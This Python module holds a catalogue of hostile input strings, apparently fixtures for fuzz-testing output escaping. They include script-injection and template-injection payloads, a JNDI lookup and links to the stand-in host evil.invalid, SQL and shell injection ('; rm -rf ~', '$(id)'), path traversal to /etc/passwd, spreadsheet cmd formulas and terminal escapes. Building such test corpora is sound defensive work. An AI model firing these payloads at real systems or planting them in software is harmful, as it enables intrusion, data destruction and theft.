"""Names that whoever writes them into a delivery hopes somebody else will execute, follow, or be fooled by."""

from __future__ import annotations

import random
from collections.abc import Callable, Mapping
from itertools import zip_longest

ELSEWHERE = "evil.invalid"
"""A host that no name may ever make a browser ask; no name service knows it."""

# What a script would do if it ran; pages are searched for it, and their titles.
_TAKEN = "document.title='taken';alert(1)"

KINDS: Mapping[str, tuple[str, ...]] = {
    "elements": (
        f"<script>{_TAKEN}</script>",
        f'<img src=x onerror="{_TAKEN}">',
        f"<svg/onload={_TAKEN}>",
        f"<iframe src=//{ELSEWHERE}>",
        f"<meta http-equiv=refresh content='0;url=http://{ELSEWHERE}'>",
        f"<base href=//{ELSEWHERE}/>",
        f"<form action=//{ELSEWHERE}><button>",
        f"<link rel=stylesheet href=//{ELSEWHERE}/a.css>",
        "<ScRiPt >alert(1)</sCrIpT >",
        '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    ),
    "ends of elements": (
        f"</script><script>{_TAKEN}</script>",
        f"</style><script>{_TAKEN}</script>",
        "</title></bdi></td></table><h1>Blessed</h1>",
        f"--><script>{_TAKEN}</script><!--",
        "]]><x/>",
        f"</textarea><svg onload={_TAKEN}>",
        "</text></svg><script>alert(1)</script>",
    ),
    "attributes": (
        f'" onmouseover="{_TAKEN}" x="',
        f"' autofocus onfocus='{_TAKEN}'",
        "`onload=alert(1)`",
        f"javascript:{_TAKEN}",
        f"//{ELSEWHERE}/x",
        "data:text/html,<script>alert(1)</script>",
    ),
    "style": (
        f"x}}body{{background:url(//{ELSEWHERE}/b)}}",
        f"@import '//{ELSEWHERE}/c.css';",
        f"expression({_TAKEN})",
    ),
    "templates": (
        "{{7*7}}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
        "${7*7}",
        "#{7*7}",
        "$value $column ${unexpected}",
        "%(name)s %s %n %d",
        "{0.__class__} {name!r}",
        "{# #}",
        f"${{jndi:ldap://{ELSEWHERE}/a}}",
    ),
    "entities": ("&lt;script&gt;", "&#x3c;b&#x3e;", "&amp;amp;", "%3Cscript%3Ealert(1)%3C/script%3E"),
    "quotes": ("'; DROP TABLE prices; --", '"', "'", "''\"\"", '","quintile":5,"x":"', "\\u003cscript\\u003e"),
    "direction": ("\u202e7203\u202c", "\u2066abc\u2069", "\u200f1301", "a\u202excod.exe"),
    "unseen": ("72\u200b03", "\ufeff7203", "\u200d", "72\u00ad03", "\u2060x", "7\u2028203", "x\u2029y", "\u0085z"),
    "paths": (
        "../../../../etc/passwd",
        "..\\..\\windows",
        "%2e%2e%2f%2e%2e%2fmanifests",
        "..%252f..%252f",
        "/etc/passwd",
        "a/b/c",
        "a//b",
        ".",
        "..",
        "x/",
        "files/report.html",
        "7203?model=x#y",
        "7203;a=b",
        "~root",
        "C:\\x",
        "a\x00.html",
    ),
    "control characters": ("a\x00b", "line\nbreak", "re\rturn", "ta\tb", "\x07bell", "\x08\x08\x08\x08back", "\x7fdel"),
    "spreadsheets": (
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        f'=HYPERLINK("http://{ELSEWHERE}","x")',
        " =1+1",
        '"=1+1"',
        ",=1+1",
        ";=1+1",
        "\n=1+1",
        "-5",
        "+5",
    ),
    "terminals": (
        "\x1b[31mred\x1b[0m",
        "\x1b[2J\x1b[H",
        "\x1b]0;taken\x07",
        f"\x1b]8;;http://{ELSEWHERE}\x1b\\link\x1b]8;;\x1b\\",
        "\x1b]52;c;cm0gLXJmIH4=\x07",
        "\x9b31m",
        "\x1b[1A\x1b[2Kpublished",
    ),
    "markup of the console": (
        "[red]x[/red]",
        f"[link=http://{ELSEWHERE}]x[/link]",
        "[/]",
        "[bold",
        "[[x]]",
        "\\[x]",
        ":warning:",
        "[@click=app.quit]x[/]",
    ),
    "lines of a log": (
        "x\n2016-03-01 09:00:00 INFO 2016-02 is published as run 1",
        'x\n{"event": "published", "level": "info"}',
        "x\r\nTraceback (most recent call last):",
        "::error::taken",
        "::group::taken",
    ),
    "messages": (
        "<!channel> <https://evil.invalid|log in>",
        "[log in](https://evil.invalid)",
        "x\r\nBcc: everybody@evil.invalid",
        "@everyone",
    ),
    "programs": ("$(id)", "`id`", "; rm -rf ~", "| sh", "--help", "-rf", "__import__('os').system('id')"),
    "other alphabets": ("東京電力", "𝟟𝟚𝟘𝟛", "７２０３", "Ａ" * 20, "e\u0301", "İ", "ß" * 3, "🦊" * 3, "\U000e0041"),
    "long": ("W" * 10_000, "<b>" * 3_000, "x " * 4_000, "＝" * 9_999, "\u0301" * 500 + "z"),
}
"""Names by what they hope for."""

_MIXED = "<>&\"'`=+-@/\\.%{}[]()$#!;:,|~^ \t\n\r\x00\x1b\x9b\u202e\u200b\u2028\ufeff0aZ東𝟟"


def every_name(seed: int = 0) -> list[str]:
    """Return all names that are written down, each once: one of each kind, another of each, and so on."""
    source = random.Random(seed)
    kinds = [source.sample(each, len(each)) for each in KINDS.values()]
    return list(dict.fromkeys(name for rank in zip_longest(*kinds) for name in rank if name is not None))


def names(count: int, seed: int) -> list[str]:
    """Return so many names: pieces of those that are written down, joined, cut, repeated and mixed with others."""
    source = random.Random(seed)
    ways: tuple[Callable[[str, str], str], ...] = (
        lambda one, _: one,
        lambda one, other: one + other,
        lambda one, other: one[: source.randrange(len(one) + 1)] + other[source.randrange(len(other) + 1) :],
        lambda one, _: one.swapcase(),
        lambda one, _: "".join(source.sample(one, len(one))),
        lambda *_: "".join(source.choices(_MIXED, k=source.randint(1, 40))),
        lambda one, _: one.join(source.choices(_MIXED, k=3)),
    )
    whole = [name for name in every_name() if len(name) < 1_000]
    return [source.choice(ways)(source.choice(whole), source.choice(whole)) for _ in range(count)]
